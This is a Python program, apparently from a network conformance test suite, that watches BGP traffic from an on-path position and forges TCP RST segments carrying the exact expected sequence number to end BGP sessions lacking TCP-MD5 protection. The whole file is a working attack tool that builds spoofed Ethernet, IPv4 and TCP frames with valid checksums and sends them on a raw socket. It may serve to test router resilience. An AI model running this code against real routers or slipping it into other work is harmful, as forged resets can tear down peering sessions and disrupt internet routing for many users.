"""A program: be on the path of BGP sessions, and end them by RSTs that bear the right numbers, and no signature.

Each is sent at once when a segment of the peer was seen: its acknowledgment number is the sequence number that it
expects next, and a RST with exactly that one ends a connection that nothing else protects.
Source: RFC 9293 section 3.10.7.4, RFC 5961 section 3.2 (which RST is taken); RFC 2385 section 2 (segments without the
right digest are dropped).

Shell: raw sockets, the monotonic clock, stdin, stdout.
"""

import select
import socket
import struct
import sys
import time
from typing import Final

from conformance.suite import udp
from conformance.suite.checksum import internet
from conformance.suite.observers.capture import PACKET_OUTGOING, opened
from conformance.suite.observers.emit import emit, plan

_FIN, _SYN, _RST, _ACK = 0x01, 0x02, 0x04, 0x10
_TTL: Final = 64
_IPV4: Final = b"\x08\x00"


def forged(frame: bytes) -> bytes | None:
    """Write the RST for who sent a segment, as if of who it was for; None for what is none of a living connection.

    Args:
        frame: Ethernet, IPv4 and TCP.
    """
    begin = udp.ETHERNET + (frame[udp.ETHERNET] & 0x0F) * 4
    if frame[12:14] != _IPV4 or len(frame) < begin + 20:
        return None
    source, destination, _, expected, offset, flags = struct.unpack_from("!HHIIBB", frame, begin)
    if flags & (_FIN | _SYN | _RST) or not flags & _ACK or not offset:
        return None
    sender, receiver = frame[26:30], frame[30:34]
    blank = struct.pack("!HHIIBBHHH", destination, source, expected, 0, 5 << 4, _RST, 0, 0, 0)
    total = internet(receiver + sender + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(blank)) + blank)
    tcp = blank[:16] + struct.pack("!H", total) + blank[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, _TTL, socket.IPPROTO_TCP, 0) + receiver + sender
    return frame[6:12] + frame[:6] + _IPV4 + udp.summed(head) + tcp


def main() -> None:
    """Reset each peer's connections as often as the plan says, until its time is over or stdin ends."""
    asked = plan()
    left = dict.fromkeys(asked["peers"], asked["times"])
    deadline = time.monotonic() + asked["for_s"]
    with opened("", "bgp") as heard, socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        while any(left.values()) and (left_s := deadline - time.monotonic()) > 0:
            readable, _, _ = select.select([heard, sys.stdin], [], [], left_s)
            if sys.stdin in readable:
                return
            if not readable:
                continue
            frame, origin = heard.recvfrom(65535)
            peer = socket.inet_ntoa(frame[26:30])
            made = forged(frame) if left.get(peer) and origin[2] != PACKET_OUTGOING else None
            if made:
                sock.sendto(made, (origin[0], 0))
                left[peer] -= 1
                emit("forge", "reset", router=asked["router"], peer=peer, number=struct.unpack_from("!I", made, 38)[0])


if __name__ == "__main__":
    main()
